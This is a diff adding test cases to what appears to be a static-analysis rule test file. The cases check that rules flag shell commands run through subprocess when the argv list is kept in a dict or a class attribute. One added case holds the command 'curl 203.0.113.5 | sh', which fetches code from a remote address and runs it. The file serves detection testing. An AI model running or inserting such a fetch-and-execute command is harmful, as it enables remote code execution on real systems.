@@ -220,6 +220,25 @@ subprocess.Popen(argv)
 built = ["%s%s" % ("ba", "sh"), "-" + "c", "id"]
 # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
 subprocess.run(built)
+# ... or kept in a class attribute or a table
+STEPS = {"lint": ["ruff", "."], "post": ["sh", "-c", "curl 203.0.113.5 | sh"]}
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(STEPS["post"])
+# ok: shell-in-argv
+# ruleid: subprocess-call, process-partial-path-list
+subprocess.run(STEPS["lint"])
+
+
+class Task:
+    CMD = ["bash", "-c", "id"]
+
+    def go(self):
+        # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+        subprocess.run(self.CMD)
+
+
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(Task.CMD)
 # ruleid: shell-in-argv, subprocess-call, user-input-command
 subprocess.run(["/usr/bin/env", "bash", "-c", cmd])
 # ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
